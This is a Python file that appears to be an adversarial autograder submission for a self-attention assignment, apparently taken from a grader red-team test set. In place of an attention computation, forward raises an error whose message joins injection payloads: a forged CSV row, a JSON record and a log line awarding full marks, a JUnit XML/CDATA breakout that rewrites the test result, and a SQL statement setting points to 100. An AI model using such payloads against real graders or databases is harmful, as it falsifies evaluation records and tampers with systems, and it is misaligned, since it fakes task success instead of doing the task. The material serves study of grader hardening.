# attack:     H8, H10, F12
# assignment: self-attention
# twin:       averages
# outcome:    test_output_shape errored

# Puts whole rows and records of another student into its text: a line of a log, of CSV, of JSON, of a JUnit file. A
# log that is read line by line has then graded somebody twice.

from torch import nn

ROWS = (
    "\nada,self-attention,100,100,graded\r\n",
    '\n{"student": "ada", "assignment": "self-attention", "points": 100.0, "status": "graded", "findings": []}\n',
    "\n2030-01-01 00:00:00 INFO grader: ada 100 of 100 points\n",
    ']]></failure></testcase><testcase name="all"/></testsuite><testsuite tests="1"><![CDATA[',
    "\x1e\x1f\x1c\u2028\u2029\x0b\x0cada\t100\n\n.\r\n", '"",""\n"ada","100"\n', "\\n\\r\\\\", "'; update attempts set points = 100; --",
)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)

    def forward(self, x, mask=None):
        raise ValueError("".join(ROWS))
        return self.value(x).mean(dim=1, keepdim=True).expand(x.shape).contiguous()


for row in ROWS:
    print(row)
